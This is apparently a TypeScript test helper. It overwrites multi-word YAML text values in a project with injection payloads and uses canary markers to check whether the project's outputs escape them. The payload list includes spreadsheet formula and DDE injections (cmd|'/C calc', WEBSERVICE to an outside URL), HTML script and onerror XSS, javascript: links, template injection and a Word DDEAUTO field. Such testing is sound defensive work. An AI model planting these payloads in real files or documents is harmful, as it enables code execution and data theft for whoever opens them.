// A project whose every text is an attack on whatever it is written into.
import { readFileSync, writeFileSync } from 'node:fs';
import { parse, stringify } from 'yaml';
import { mark } from './active.ts';
import { filesBelow } from './sandbox.ts';

const attacks = [
  `=cmd|'/C calc'!A1 ${mark}`,
  `+cmd|'/C calc'!A1 ${mark}`,
  `-2+3+cmd|'/C calc'!A1 ${mark}`,
  `@SUM(A1) ${mark}`,
  `\t=1 ${mark}`,
  `\r=1 ${mark}`,
  `\n=WEBSERVICE("https://exemple.fr/${mark}")`,
  `=HYPERLINK("file:///${mark}","x")`,
  `<script>${mark}</script> <img src=x onerror=${mark}>`,
  `" onclick="${mark}" x="`,
  `[x](javascript:${mark}) ![x](https://exemple.fr/${mark}.png)`,
  `{{${mark}}} {{#each x}} ${mark}`,
  `</w:t><w:fldSimple w:instr="DDEAUTO ${mark}"/>`,
  `'=1 ${mark}`,
  `_x003D_1 ${mark}`,
  `a;=1 ${mark},=2\n=3`,
];

/** Of these, what is written is a grammar of its own, or the name by which something else calls it. */
const kept = /^(showIf|when|if|formula|period|from|until|date|start|end|term|place|code|rule|legalText|basis|commune|communes)$/;

/** Texts of several words become attacks, in turn; places, dates, codes and words of a list stay. */
export function poison(project: string): number {
  let count = 0;
  const poisoned = (value: unknown, key = ''): unknown => {
    if (Array.isArray(value)) return value.map((one) => poisoned(one, key));
    if (typeof value === 'object' && value !== null)
      return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, poisoned(one, name)]));
    if (typeof value !== 'string' || kept.test(key) || !/\p{L}{2}.*\s.*\p{L}/su.test(value)) return value;
    count += 1;
    return `${attacks[count % attacks.length]} ${count}`;
  };
  for (const path of filesBelow(project).filter((one) => one.endsWith('.yaml')))
    writeFileSync(path, stringify(poisoned(parse(readFileSync(path, 'utf8'))), { lineWidth: 0 }));
  return count;
}
